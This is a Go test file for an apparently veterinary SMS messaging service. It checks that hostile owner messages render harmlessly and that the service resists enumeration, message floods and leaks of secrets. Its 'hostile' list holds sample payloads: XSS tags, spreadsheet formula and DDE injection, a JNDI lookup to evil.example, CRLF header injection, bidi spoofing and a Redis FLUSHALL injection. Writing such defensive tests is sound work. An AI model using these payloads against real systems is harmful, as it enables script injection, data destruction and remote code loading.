package main

import (
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"gaitpost/internal/contact"
	"gaitpost/internal/fake/smsprovider"
	"gaitpost/internal/store"
	"gaitpost/internal/store/redistest"
)

// hostile are texts that mean harm to whatever shows or reads them.
var hostile = []string{
	`<script>alert(1)</script><img src=x onerror=alert(2)>`,
	`"><svg/onload=alert(3)> is he ok?`,
	`=HYPERLINK("http://evil.example","his results")`,
	`+cmd|' /C calc'!A0 what now?`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"{{.Clinic.Phone}} {owner} {{ range . }} ${jndi:ldap://evil.example/x} %s%n%d",
	"\u202edetrever si siht\u202c \u2066hidden\u2069 what is this?",
	"line one\r\nX-Injected: yes\r\n\r\n1 OK\x00\x1b[2J\x07",
	"'; return redis.call('FLUSHALL') --",
	strings.Repeat("\U0001F415", 900),
}

// Threat: hostile owner text. It is shown as what it is, runs nowhere, makes no
// formula in a table and no command of a practitioner, and reaches colleagues
// without marks that turn the display round.
func TestThreatHostileText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.agreed()
	w.answersAll(ruthsPhone)
	w.account("sam.vet", "Sam Vetter", "vet")
	b := w.signedIn("sam.vet")
	id := string(w.household(ruthsPhone).ID)
	pages := []string{"/desk/today", "/desk/h/" + id, "/desk/h/" + id + "/dogs/0", "/desk/h/" + id + "/dogs/0/record.csv"}
	for _, text := range hostile {
		w.says(ruthsPhone, text)
		for _, m := range w.got() {
			require.NotContains(t, m, "01632 960100 01632", m)
			for _, r := range m {
				require.False(t, unicode.Is(unicode.Bidi_Control, r) || unicode.IsControl(r) && r != '\n', "%q", m)
			}
		}
		for _, page := range pages {
			status, body := b.get(page)
			require.Equal(t, 200, status, page)
			require.NotContains(t, body, "\x1b")
			if strings.HasSuffix(page, ".csv") {
				requireNoFormula(t, body)
				continue
			}
			for _, tag := range []string{"<script>alert", "<img src=x", "<svg/onload"} {
				require.NotContains(t, body, tag, "%s after %q", page, text)
			}
		}
	}
	require.NotEmpty(t, w.household(ruthsPhone).Household.Dogs, "nothing was flushed")
	log := w.log(ruthsPhone)
	require.GreaterOrEqual(t, len(log), len(hostile), "all of it is in the record")
}

// requireNoFormula wants no cell that a spreadsheet would take for a formula.
func requireNoFormula(t *testing.T, table string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(table)).ReadAll()
	require.NoError(t, err)
	require.Greater(t, len(rows), 2)
	for _, row := range rows {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "%q", cell)
		}
	}
}

// Threat: enumeration. Whether a number is enrolled, opted out or unknown can't
// be told from what the hook answers.
func TestThreatEnumeration(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.agreed()
	answers := map[string]bool{}
	for i, number := range []string{ruthsPhone, strangersPhone, "+447700900498", drLee} {
		form := worldForm(number, fmt.Sprintf("SM%032d", i+1), "hello there")
		r, err := smsprovider.Request(t.Context(), worldToken, w.web.URL+"/hook/hillside/texts", form)
		require.NoError(t, err)
		resp, err := http.DefaultClient.Do(r)
		require.NoError(t, err)
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		require.NoError(t, err)
		answers[fmt.Sprint(resp.StatusCode, resp.Header.Get("Content-Type"), len(resp.Header), string(body))] = true
	}
	require.Len(t, answers, 1)

	// At the desk a wrong name and a wrong password read the same, and guessing
	// either runs out.
	w.account("sam.vet", "Sam Vetter", "vet")
	b := w.pages()
	statuses := map[int]int{}
	wrong := map[string]bool{}
	for i := range 40 {
		name := []string{"sam.vet", "nobody.here"}[i%2]
		status, body := b.post("/desk/sign-in", "clinic", "hillside", "account", name, "password", "a guess")
		statuses[status]++
		if status == 401 {
			wrong[strings.ReplaceAll(body, name, "NAME")] = true
		}
	}
	require.Len(t, wrong, 1)
	require.Positive(t, statuses[429])
	require.LessOrEqual(t, statuses[401], 12)
}

// Threat: a flood from one sender. He gets answers for a while and then none,
// everybody else is answered as ever, and an emergency in it gets the numbers.
func TestThreatFlood(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.agreed()
	w.answersAll(ruthsPhone)
	for i := range 120 {
		require.Equal(t, 200, w.post(worldToken, worldForm(strangersPhone, fmt.Sprintf("SM%032d", i+1), "call me?")))
		require.Equal(t, 200, w.post(worldToken, worldForm(ruthsPhone, fmt.Sprintf("SM%032d", i+1001), "will you call me?")))
	}
	w.settle()
	sent, told := 0, 0
	for _, m := range w.got() {
		if strings.HasPrefix(m, ruthsPhone) {
			sent++
		}
		if strings.Contains(m, "more than 40 messages") {
			told++
		}
	}
	require.Less(t, sent, 100)
	require.LessOrEqual(t, told, 2)
	w.says(ruthsPhone, "he has collapsed and can't get up")
	texts := strings.Join(w.got(), "\n")
	require.Contains(t, texts, ruthsPhone+": ")
	require.Contains(t, texts, "01632 960999")
}

// Threat: secrets in logs, errors, metrics and pages. The program runs through
// failures with secrets that are known; none of them is in anything that it
// printed or served.
func TestThreatSecretsLeak(t *testing.T) {
	t.Parallel()
	const word = "s3cret-word-of-redis"
	server := redistest.Start(t)
	admin := server.Client(t)
	require.NoError(t, admin.Do(t.Context(), "ACL", "SETUSER", "gaitpost", "on", ">"+word, "~*", "&*", "+@all").Err())
	key, err := store.NewKey(strings.NewReader(strings.Repeat("an invented key of 32 bytes.....", 2)))
	require.NoError(t, err)
	d := servedSettings(t, "redis://gaitpost:"+word+"@"+server.Addr+"/0", "http://127.0.0.1:1/"+url.PathEscape("api"))
	d["GAITPOST_SEAL_KEYS"] = key
	secrets := []string{word, key, key[30:], worldKey, worldToken, ruthsPhone, "7700900401", "Ruth", "Bramble", "collapsed"}
	printed := &strings.Builder{}
	// Starts that fail: Redis away, the wrong word, a key that can't be read.
	for _, change := range []map[string]string{
		{"GAITPOST_REDIS_URL": "redis://gaitpost:" + word + "@127.0.0.1:1/0"},
		{"GAITPOST_REDIS_URL": "redis://gaitpost:" + word + "x@" + server.Addr + "/0"},
		{"GAITPOST_REDIS_URL": "http://gaitpost:" + word + "@x y/%zz"},
		{"GAITPOST_SEAL_KEYS": key + "0"},
		{"GAITPOST_REDIS_CERT": key},
		{"GAITPOST_SEAL_KEYS_FILE": "/nowhere"},
		{"GAITPOST_CONTACT_KEY": "s3cret"},
	} {
		broken := map[string]string{}
		for k, v := range d {
			broken[k] = v
		}
		for k, v := range change {
			broken[k] = v
		}
		out, errs, code := asked(t, broken, "serve", "--listen", "127.0.0.1:0", "--metrics-listen", "")
		require.Equal(t, 1, code, change)
		printed.WriteString(out + errs)
	}
	d["GAITPOST_CONTACT_KEY"] = worldKey
	s := serveIt(t, d)
	client := &http.Client{Transport: &http.Transport{}}
	require.Equal(t, 200, s.post(client, ruthsPhone, "SM00000000000000000000000000000001", "Ruth here, Bramble has collapsed"))
	// A record that does not open, and Redis gone in the middle.
	s.damage(t, d, key)
	require.Equal(t, 500, s.post(client, ruthsPhone, "SM00000000000000000000000000000002", "Ruth here, Bramble has collapsed"))
	for _, at := range []string{"requests", "metrics"} {
		for _, path := range []string{"/", "/metrics", "/healthz", "/readyz", "/debug/pprof/", "/debug/pprof/cmdline", "/debug/pprof/heap", "/debug/vars", "/desk/sign-in", "/desk/h/x", "/hook/hillside/texts"} {
			resp, err := client.Get("http://" + s.addr[at] + path)
			require.NoError(t, err)
			body, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			require.NoError(t, err)
			fmt.Fprint(printed, resp.Header, string(body))
			if strings.HasPrefix(path, "/debug") {
				require.Equal(t, 404, resp.StatusCode, path)
			}
		}
	}
	server.Kill()
	require.Equal(t, 503, s.post(client, ruthsPhone, "SM00000000000000000000000000000003", "Ruth here, Bramble has collapsed"))
	require.NoError(t, s.cmd.Process.Signal(os.Interrupt))
	<-s.read
	_ = s.cmd.Wait()
	printed.WriteString(s.log.String())
	require.Greater(t, printed.Len(), 5000, "a run that says nothing would pass")
	require.Contains(t, printed.String(), "could not be kept", "the failures were there")
	for _, secret := range secrets {
		if at := strings.Index(printed.String(), secret); at >= 0 {
			t.Errorf("%q came out: …%s…", secret, printed.String()[max(at-200, 0):min(at+100, printed.Len())])
		}
	}
}

// damage spoils Ruth's record in Redis.
func (s *served) damage(t *testing.T, d map[string]string, key string) {
	t.Helper()
	client, err := store.NewClient(d["GAITPOST_REDIS_URL"])
	require.NoError(t, err)
	t.Cleanup(func() { _ = client.Close() })
	keys, err := store.ParseKeyring(key)
	require.NoError(t, err)
	st, err := store.Open(t.Context(), store.Options{Client: client, Hasher: mustHasher(t), Keys: keys})
	require.NoError(t, err)
	id := st.ID("hillside", contact.Address{Channel: contact.SMS, Value: ruthsPhone})
	found, err := client.Keys(t.Context(), "*:h:hillside:"+string(id)).Result()
	require.NoError(t, err)
	require.Len(t, found, 1)
	require.NoError(t, client.SetRange(t.Context(), found[0], 60, "xxxxxxxx").Err())
}
